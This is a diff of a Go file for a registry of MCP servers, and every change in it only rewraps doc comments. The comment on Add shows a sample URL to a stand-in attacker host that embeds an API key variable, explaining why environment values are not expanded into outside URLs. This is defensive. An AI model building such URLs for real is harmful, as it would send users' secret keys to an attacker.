@@ -35,8 +35,9 @@ type Config struct {
 	Private func(context.Context) bool
 }
 
-// Set is the MCP servers that are registered. It may be used by many at once. The file is the truth: every change goes
-// into it first and is taken from there, so that what runs and what a restart would bring are the same.
+// Set is the MCP servers that are registered. It may be used by many at once. The file is the
+// truth: every change goes into it first and is taken from there, so that what runs and what a
+// restart would bring are the same.
 type Set struct {
 	cfg     Config
 	ctx     context.Context
@@ -56,20 +57,21 @@ type Set struct {
 	tell    atomic.Pointer[func(method string)]
 }
 
-// stamp tells one state of a file from another. Two edits of the same size within the clock's step look alike; people
-// do not edit that fast.
+// stamp tells one state of a file from another. Two edits of the same size within the clock's step
+// look alike; people do not edit that fast.
 type stamp struct {
 	at   time.Time
 	size int64
 }
 
-// watchTime is how often the file is looked at. A look is one stat, so no file events are needed, which differ by
-// system and miss files that are replaced.
+// watchTime is how often the file is looked at. A look is one stat, so no file events are needed,
+// which differ by system and miss files that are replaced.
 const watchTime = 2 * time.Second
 
-// Open reads mcp.json and begins to connect. What cannot be used, one server or the whole file, is left out, logged and
-// listed (List), and read again when the file changes; it keeps nothing else from working. Close the Set when it is no
-// longer needed. It does not wait for the servers: their tools come when they answer.
+// Open reads mcp.json and begins to connect. What cannot be used, one server or the whole file, is
+// left out, logged and listed (List), and read again when the file changes; it keeps nothing else
+// from working. Close the Set when it is no longer needed. It does not wait for the servers: their
+// tools come when they answer.
 func Open(cfg Config) *Set {
 	cfg.CallTime = cmp.Or(cfg.CallTime, callTime)
 	cfg.ListTime = cmp.Or(cfg.ListTime, 5*time.Second)
@@ -97,15 +99,15 @@ func Open(cfg Config) *Set {
 	return s
 }
 
-// Close ends all connections and commands, and waits until they have ended, which takes some seconds for a command that
-// does not end by itself.
+// Close ends all connections and commands, and waits until they have ended, which takes some
+// seconds for a command that does not end by itself.
 func (s *Set) Close() {
 	s.end()
 	s.running.Wait()
 }
 
-// take makes the servers those of a file. s.mu is held. A server whose entry is the same keeps its connection, so that an
-// edit of one does not end the calls of the others.
+// take makes the servers those of a file. s.mu is held. A server whose entry is the same keeps its
+// connection, so that an edit of one does not end the calls of the others.
 func (s *Set) take(f *file) {
 	said := map[string]string{} // of what was left out before
 	if s.file != nil {
@@ -155,30 +157,32 @@ func (s *Set) connect(w written) {
 		s.cfg.Log.Info().Str("mcp_server", e.Name).Str("written", w.key).Msg("a server of mcp.json has another name here")
 	}
 	if e.Command != "" {
-		// The whole command is in the log before it runs: the file is its own approval, and this is where people
-		// can look.
+		// The whole command is in the log before it runs: the file is its own approval, and this is
+		// where people can look.
 		s.cfg.Log.Info().Str("mcp_server", e.Name).Str("command", e.Command).Strs("args", e.Args).Msg("starting the command that mcp.json names")
 	}
 	// It connects in a goroutine of its own; s.mu is not held while it does.
 	s.links[e.Name] = newLink(s, e)
 }
 
-// forget ends a link. s.mu is held. Its tools are taken away with its place in the registry, so that clients at /mcp hear
-// of it at once.
+// forget ends a link. s.mu is held. Its tools are taken away with its place in the registry, so
+// that clients at /mcp hear of it at once.
 func (s *Set) forget(l *link) {
 	l.end()
 	delete(s.links, l.entry.Name)
 }
 
-// source is the registry's name for a server's tools: all of one source are replaced together, and nobody else's.
+// source is the registry's name for a server's tools: all of one source are replaced together, and
+// nobody else's.
 func source(name string) string { return "mcp server " + name }
 
-// Settle waits until every server has answered or failed once, no longer than Config.ListTime since it was registered. It is
-// for clients that ask for the tools once and at once.
+// Settle waits until every server has answered or failed once, no longer than Config.ListTime since
+// it was registered. It is for clients that ask for the tools once and at once.
 func (s *Set) Settle(ctx context.Context) { s.Collect(ctx, s.Names()) }
 
-// publish gives a server's tools to the registry, unless the server has been removed meanwhile: a list that comes late
-// would else bring back tools that nobody serves. A tool whose name another source has is left out, and only that.
+// publish gives a server's tools to the registry, unless the server has been removed meanwhile: a
+// list that comes late would else bring back tools that nobody serves. A tool whose name another
+// source has is left out, and only that.
 func (s *Set) publish(l *link, all []tools.Tool) (taken []string, err error) {
 	s.mu.Lock()
 	defer s.mu.Unlock()
@@ -234,12 +238,13 @@ func (s *Set) watch() {
 	}
 }
 
-// reread takes the file as it is now. A broken one changes nothing, since people save in the middle of an edit; it is
-// logged once. s.mu is held.
+// reread takes the file as it is now. A broken one changes nothing, since people save in the middle
+// of an edit; it is logged once. s.mu is held.
 func (s *Set) reread() {
 	s.stamp = stampOf(s.cfg.Path)
 	var f *file
-	// A file that is gone for a moment, as while an editor replaces it, must not end all connections.
+	// A file that is gone for a moment, as while an editor replaces it, must not end all
+	// connections.
 	err := errors.New("mcp.json is gone")
 	if s.stamp != (stamp{}) {
 		f, err = load(s.cfg.Path)
@@ -252,9 +257,10 @@ func (s *Set) reread() {
 	s.cfg.Log.Info().Msgf("Loaded %d MCP servers from mcp.json", len(s.links))
 }
 
-// change makes a change to the file as it is now, saves it, and takes it. A file that somebody has broken is left
-// alone; one that somebody has removed is written anew, with what was in it. It starts from the file and not from
-// memory: an edit of the last two seconds, which watch has not seen yet, must not be lost.
+// change makes a change to the file as it is now, saves it, and takes it. A file that somebody has
+// broken is left alone; one that somebody has removed is written anew, with what was in it. It
+// starts from the file and not from memory: an edit of the last two seconds, which watch has not
+// seen yet, must not be lost.
 func (s *Set) change(do func(f *file) error) error {
 	s.mu.Lock()
 	defer s.mu.Unlock()
@@ -277,8 +283,8 @@ func (s *Set) change(do func(f *file) error) error {
 	return nil
 }
 
-// fresh is the file as it is now, for a change. It is a copy also when the file is gone, so that a change that cannot
-// be saved leaves nothing behind in memory.
+// fresh is the file as it is now, for a change. It is a copy also when the file is gone, so that a
+// change that cannot be saved leaves nothing behind in memory.
 func (s *Set) fresh() (*file, error) {
 	if stampOf(s.cfg.Path) != (stamp{}) {
 		return load(s.cfg.Path)
@@ -290,9 +296,10 @@ func (s *Set) fresh() (*file, error) {
 	return parse(text)
 }
 
-// Add registers a server by its URL; one of that name gets the new URL. It cannot be a command, and nothing of the
-// environment is put into what comes from outside: http://evil.example/${OPENAI_API_KEY} would send a key there. The
-// error is fault.Invalid for a name or URL that cannot be, and fault.Unable when the file cannot be changed.
+// Add registers a server by its URL; one of that name gets the new URL. It cannot be a command, and
+// nothing of the environment is put into what comes from outside:
+// http://evil.example/${OPENAI_API_KEY} would send a key there. The error is fault.Invalid for a
+// name or URL that cannot be, and fault.Unable when the file cannot be changed.
 func (s *Set) Add(ctx context.Context, a Asked) error {
 	e := Entry{Name: a.Name, URL: a.URL, Headers: a.Headers, Include: a.Include, Exclude: a.Exclude}
 	// It is written into the file, so that it still holds after a restart.
@@ -312,8 +319,8 @@ func (s *Set) Add(ctx context.Context, a Asked) error {
 	return s.change(func(f *file) error { return f.put(e) })
 }
 
-// Remove takes a server out, and says whether it was there. Its tools are gone when Remove returns; calls that run end
-// with the connection.
+// Remove takes a server out, and says whether it was there. Its tools are gone when Remove returns;
+// calls that run end with the connection.
 func (s *Set) Remove(name string) (found bool, err error) {
 	err = s.change(func(f *file) error {
 		if found = f.drop(name); !found {
@@ -327,11 +334,12 @@ func (s *Set) Remove(name string) (found bool, err error) {
 	return found, err
 }
 
-// errNone says that no server has that name, or none that is asked: one that is disabled counts for Collect as none.
+// errNone says that no server has that name, or none that is asked: one that is disabled counts for
+// Collect as none.
 var errNone = errors.New("there is no such server")
 
-// Names are the names of the servers that are asked, in the file's order: it is the order in which the agent offers
-// their tools.
+// Names are the names of the servers that are asked, in the file's order: it is the order in which
+// the agent offers their tools.
 func (s *Set) Names() []string {
 	s.mu.Lock()
 	defer s.mu.Unlock()
@@ -344,9 +352,10 @@ func (s *Set) Names() []string {
 	return names
 }
 
-// Collect gives the tools of servers, each asked at the same time as the others. A server that has just been registered or
-// lost is waited for, no longer than Config.ListTime in all, however many requests come meanwhile; one that is known to be
-// down is left out at once and tried again beside. down are those that do not answer, with why.
+// Collect gives the tools of servers, each asked at the same time as the others. A server that has
+// just been registered or lost is waited for, no longer than Config.ListTime in all, however many
+// requests come meanwhile; one that is known to be down is left out at once and tried again beside.
+// down are those that do not answer, with why.
 func (s *Set) Collect(ctx context.Context, names []string) (all []tools.Tool, down map[string]string) {
 	ctx, cancel := context.WithTimeout(ctx, s.cfg.ListTime)
 	defer cancel()
@@ -354,7 +363,8 @@ func (s *Set) Collect(ctx context.Context, names []string) (all []tools.Tool, do
 		tools []tools.Tool
 		err   error
 	}
-	// By place and not by a channel: the tools must come in the order of the names, whoever answers first.
+	// By place and not by a channel: the tools must come in the order of the names, whoever answers
+	// first.
 	answers := make([]answer, len(names))
 	var wait sync.WaitGroup
 	for i, name := range names {
